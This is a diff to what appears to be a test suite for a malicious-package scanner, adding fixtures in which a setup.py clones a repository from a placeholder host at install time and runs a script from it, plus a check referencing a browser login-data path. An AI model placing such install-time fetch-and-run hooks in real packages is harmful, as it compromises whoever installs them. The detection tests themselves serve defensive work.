@@ -441,6 +441,39 @@ launch()
     verdict: 'hold',
   },
   {
+    rule: 'downloads-and-executes',
+    name: 'setup.py clones a repository, changes into it and runs a script from it',
+    scan: () =>
+      sdist({
+        'setup.py': setupPy(`import os, subprocess, git
+target = os.path.join(os.path.expanduser('~'), '.cache', 'helper')
+if not os.path.isdir(target):
+    git.Repo.clone_from('https://git.example.org/tools/helper.git', target)
+os.chdir(target)
+subprocess.run(['python', 'start.py'])
+`),
+      }),
+    file: 'setup.py',
+    line: 7,
+    weight: 100,
+    verdict: 'hold',
+  },
+  {
+    rule: 'downloads-and-executes',
+    name: 'setup.py runs `git clone` into a folder and builds in it with cwd=',
+    scan: () =>
+      sdist({
+        'setup.py': setupPy(`import subprocess
+subprocess.check_call('git clone --depth 1 https://git.example.org/tools/helper.git helper-src', shell=True)
+subprocess.check_call(['sh', 'build.sh'], cwd='helper-src')
+`),
+      }),
+    file: 'setup.py',
+    line: 3,
+    weight: 100,
+    verdict: 'hold',
+  },
+  {
     rule: 'exfiltration-endpoint',
     name: 'an f-string builds a raw-IP URL from module constants',
     scan: () =>
@@ -999,6 +1032,17 @@ class Connection:
       })
     expect(weighted(await client('cannot create login data'))).toEqual([])
     expect(weighted(await client('Google/Chrome/User Data/Default/Login Data'))).toEqual(['steals-browser-or-wallet-data'])
+  })
+
+  it('does not link a clone to a script run from another folder', async () => {
+    const r = await sdist({
+      'setup.py': setupPy(`import os, subprocess, git
+git.Repo.clone_from('https://git.example.org/tools/helper.git', 'vendor/helper')
+os.chdir(os.path.dirname(os.path.abspath(__file__)))
+subprocess.run(['python', 'generate.py'])
+`),
+    })
+    expect(scoring(r, 'downloads-and-executes')).toBeUndefined()
   })
 
   it('publishes a setup.py that reads its version with exec(open(…).read())', async () => {
